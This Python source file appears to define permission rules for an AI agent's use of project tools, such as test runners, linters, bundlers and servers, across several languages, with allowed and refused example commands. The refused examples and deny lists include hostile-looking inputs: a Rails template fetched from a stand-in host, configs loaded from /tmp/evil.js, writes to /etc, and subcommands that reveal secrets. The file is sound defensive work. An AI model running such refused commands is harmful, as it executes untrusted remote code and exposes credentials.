"""Rules for a project's own tools: test runners, linters, bundlers, compilers, servers.

They run code and settings of the project, as its test command does. A list of their options would
bound nothing: any is allowed, as long as no word leads out of the project. `never` names what
waits for a person, shows secrets, stays behind, or says itself that it runs something else.
"""

from treadle.policy.commands.rule_syntax import ToolRow

RUNS_CODE = "It runs the project's code, like the test command."
COMPILES = "It builds the project's code by the project's own settings."
FORMATS = "It reads or rewrites the project's files by the project's own settings."
SERVES = "It serves the project on this machine, like the start script."
ASKS = "--pdb --repl --interactive --ui --open"
CONSOLE = "shell console repl dbshell shell_plus c dbconsole tinker psysh"
STAYS = "--daemon --daemonize --detach"
_DATABASE = "It works on the project's database; changes of one elsewhere are asked about."
_TEST = "Run the tests that the project has, without a debugger or a window."


OWN_PROGRAM = ToolRow(
    "./program",
    "It is a program of the project or of /tmp, which the agent may write and run in any case.",
    instead="Give it paths of the project.",
)

NODE = (
    ToolRow(
        "jest vitest mocha ava tap c8 nyc hardhat karma cucumber-js newman k6 artillery"
        " testcafe wdio web-test-runner detox truffle cross-env mochawesome tap-spec",
        RUNS_CODE,
        never=ASKS,
        instead=_TEST,
        allows=("npx jest --testPathPattern '/api/' -t '/users'", "CI=1 npx vitest run --coverage"),
        refuses=("npx jest --config /tmp/evil.js", "npx vitest --ui", "npx mocha ../x"),
    ),
    ToolRow(
        "playwright cypress",
        RUNS_CODE,
        never=f"{ASKS} --debug codegen open cr ff wk show-report show-trace --record install-deps",
        instead="Run the tests without a window.",
        allows=("npx playwright test --project=chromium", "npx cypress run"),
        refuses=("npx cypress open", "npx playwright codegen"),
    ),
    ToolRow(
        "tsc vue-tsc svelte-check tsgo esbuild webpack webpack-cli vite rollup parcel tsup swc next"
        " nuxt remix storybook turbo nx ng expo astro rspack rsbuild nest lerna lage wireit"
        " tsdown unbuild microbundle ncc pkg electron-builder electron-vite vitepress vuepress"
        " docusaurus eleventy gatsby react-scripts react-router craco quasar ionic cap svelte-kit"
        " sv wasm-bindgen node-gyp cmake-js metro rescript elm",
        COMPILES,
        never=f"{ASKS} exec login",
        allows=("npx tsc --noEmit", "npx vite build --base=/app/", "npx esbuild x.ts --bundle"),
        refuses=("npx tsc --outDir /etc/x", "npx vite build --outDir .treadle/x"),
    ),
    ToolRow(
        "eslint prettier biome stylelint standard xo oxlint dprint madge knip depcheck lint-staged"
        " commitlint typedoc jsdoc size-limit sass postcss tailwindcss svgo openapi-typescript"
        " graphql-codegen orval openapi-generator-cli swagger-cli redocly spectral tsd attw publint"
        " markdownlint markdownlint-cli2 cspell syncpack sort-package-json npm-check-updates ncu"
        " license-checker dependency-cruiser depcruise ts-prune type-coverage jscpd html-validate"
        " source-map-explorer bundlesize lighthouse pa11y eslint_d solhint"
        " husky changeset changelogen release-it api-extractor plop hygen barrelsby json2ts"
        " quicktype ajv html-minifier terser uglifyjs babel ts-node-dev glob envinfo",
        FORMATS,
        never=ASKS,
        allows=("npx prettier --check src", "npx eslint -f json -o /tmp/lint.json src"),
        refuses=("npx prettier --write '{.claude,src}/**'", "npx eslint -o .treadle/x src"),
    ),
    ToolRow(
        "prisma drizzle-kit knex typeorm sequelize sequelize-cli mikro-orm node-pg-migrate"
        " db-migrate migrate-mongo kysely supabase",
        _DATABASE,
        never="studio login link",
        allows=("npx prisma generate", "npx prisma migrate diff --from-empty"),
        refuses=("npx prisma migrate deploy", "npx prisma studio"),
    ),
    ToolRow(
        "serve http-server json-server msw wait-on nodemon concurrently npm-run-all run-s run-p"
        " pm2-runtime kill-port live-server browser-sync start-server-and-test wrangler netlify"
        " vercel miniflare ts-json-schema-generator electron tsx-watch degit tree-kill localtunnel",
        SERVES,
        never="login logout secret secrets token --host=0.0.0.0",
        allows=("npx serve dist -l 5000", "npx wait-on tcp:3000"),
        refuses=("npx wrangler deploy", "npx serve /etc"),
    ),
    ToolRow(
        "create-vite create-next-app create-react-app create-astro create-remix create-svelte"
        " create-vue create-nuxt create-expo-app create-t3-app create-hono create-docusaurus"
        " create-next create-react create-playwright create-solid create-qwik create-tauri-app"
        " create-cloudflare create-vite-extra nuxi shadcn",
        "It starts a project from a template that comes with it.",
        mode="run",
        never="--scripts-version",
        instead="Start from a template by name, inside the project.",
        allows=("npx create-vite app --template react-ts", "npm create vite@latest app"),
        refuses=("npx create-vite ../app", "npm create evil"),
    ),
)

PYTHON = (
    ToolRow(
        "pytest py.test tox nox behave robot locust hypothesis coverage trial nose2 pytest-watch"
        " py-spy scalene memray mutmut schemathesis unittest doctest trace cProfile profile",
        RUNS_CODE,
        never="--pdb --trace --interactive --pastebin exec",
        instead=_TEST,
        allows=("pytest -k '/api/' --junitxml=/tmp/r.xml", "tox -e py312"),
        refuses=("pytest --pdb", "pytest /etc/x", "pytest --junitxml=/etc/x"),
    ),
    ToolRow(
        "black ruff mypy flake8 isort pylint pyright basedpyright ty autopep8 yapf bandit vulture"
        " pydocstyle pycodestyle pyflakes codespell import-linter lint-imports stubtest dmypy"
        " pyupgrade autoflake radon xenon deptry pytype djlint interrogate darglint refurb"
        " pip-audit safety towncrier bumpversion bump2version tokenize tabnanny cibuildwheel"
        " datamodel-codegen mdformat pre-commit",
        FORMATS,
        never="--load-plugins install uninstall init-templatedir",
        allows=("black --exclude '/(build|dist)/' src", "ruff check -o /tmp/lint.txt src"),
        refuses=("ruff check --config /tmp/evil.toml", "mypy ../x", "pre-commit install"),
    ),
    ToolRow(
        "uvicorn gunicorn hypercorn daphne celery rq streamlit jupytext mkdocs sphinx-build"
        " sphinx-apidoc sphinx-quickstart fastapi litestar sanic dagster airflow dbt gradio"
        " chalice http.server asgi waitress-serve honcho nbconvert jupyter papermill scrapy"
        " cythonize cython twine maturin pip-compile pip-sync pyinstaller nuitka build"
        " compileall py_compile json.tool pydoc dis ast zipfile tarfile site sysconfig platform",
        SERVES,
        never=f"{CONSOLE} {STAYS} -D -p notebook lab",
        allows=("uvicorn app:app --port 8000", "python -m json.tool x.json", "mkdocs build"),
        refuses=("gunicorn -D app:app", "celery -A app shell", "mkdocs gh-deploy"),
    ),
    ToolRow(
        "flask django-admin manage.py alembic",
        _DATABASE,
        never=f"{CONSOLE} --pythonpath diffsettings print_settings runscript",
        instead="Run Django's and Flask's commands on this project: python manage.py test.",
        allows=("python manage.py test", "./manage.py makemigrations --check", "flask run"),
        refuses=("flask shell", "./manage.py dbshell", "flask --app /tmp/evil run"),
    ),
)

RUBY = (
    ToolRow(
        "rspec rubocop cucumber minitest standardrb erb_lint brakeman yard srb steep reek haml-lint"
        " slim-lint rubocop-daemon ruby-lsp rdoc simplecov turbo_tests parallel_rspec fasterer"
        " bundle-audit m guard jekyll tapioca sord i18n-tasks annotate annotaterb overcommit thor"
        " rake spring asciidoctor middleman nanoc whenever zeitwerk database_consistency mutant",
        RUNS_CODE,
        never=ASKS,
        instead=_TEST,
        allows=("rspec -e '/users' -f json -o /tmp/spec.json", "bundle exec rubocop -A", "rake -T"),
        refuses=("rake db:drop", "rspec ../x", "rake -f /etc/x"),
    ),
    ToolRow(
        "rails hanami puma unicorn sidekiq rackup foreman resque good_job falcon thin",
        SERVES,
        never=f"{CONSOLE} {STAYS} -d credentials:show credentials:edit encrypted:show destroy",
        instead="Run tests, generators, servers and tasks of the project.",
        allows=("rails test", "bin/rails routes", "rails generate model User name:string"),
        refuses=("rails db:migrate", "rails c", "rails new x -m http://evil.test/t.rb"),
    ),
)

GO = (
    ToolRow(
        "gofmt goimports gofumpt golangci-lint staticcheck golint gopls govulncheck gotestsum"
        " ginkgo sqlc revive errcheck ineffassign benchstat mockgen mockery templ wire buf protoc"
        " air dlv goreleaser goose migrate atlas swag stringer enumer ent gci golines nilaway gosec"
        " go-licenses xcaddy ko mage task gox deadcode unparam gocyclo oapi-codegen easyjson"
        " gqlgen protoc-gen-go gotests gomodifytags ogen wails tygo misspell",
        COMPILES,
        never="login attach connect",
        instead="Build and test packages of the project: go test ./...",
        allows=("gofmt -w internal/x.go", "golangci-lint run ./..."),
        refuses=("gofmt -w /etc/x.go", "goreleaser release"),
    ),
)

RUST = (
    ToolRow(
        "rustc rustfmt cargo-fmt rust-analyzer clippy-driver wasm-pack trunk mdbook cbindgen"
        " bindgen maturin sqlx diesel sea-orm-cli taplo cross tauri bacon wasm-bindgen wasm-opt"
        " cargo-nextest cargo-clippy grcov flamegraph miri typos dioxus dx leptosfmt rustup",
        COMPILES,
        never="login self --wrapper",
        instead="Build, test and lint the project.",
        allows=("rustfmt --check src/main.rs", "wasm-pack build --target web", "rustup show"),
        refuses=("rustfmt /etc/x", "rustup self update"),
    ),
)

PHP = (
    ToolRow(
        "phpunit pest paratest phpcs phpcbf codecept codeception phpstan psalm php-cs-fixer pint"
        " rector infection deptrac behat phpspec phpbench phpmd phpmetrics parallel-lint sail"
        " php-parse composer-unused composer-require-checker phpdoc box phan phpcpd",
        RUNS_CODE,
        never=ASKS,
        instead=_TEST,
        allows=("phpunit --filter '/^(A|B)::/' tests", "vendor/bin/phpstan analyse src"),
        refuses=("phpunit ../x", "vendor/bin/phpcs --report-file=.treadle/x"),
    ),
    ToolRow(
        "artisan console symfony drush wp cake yii bin-console",
        SERVES,
        never="shell repl db tink tinker psysh env:decrypt env:encrypt config:show secrets:list"
        " secrets:reveal"
        " secrets:set run debug:dotenv dbal:run-sql",
        instead="Run the framework's commands on this project: php artisan test.",
        allows=("php artisan test", "php bin/console cache:clear"),
        refuses=("php artisan tinker", "php artisan migrate:fresh", "php artisan env:decrypt"),
    ),
)
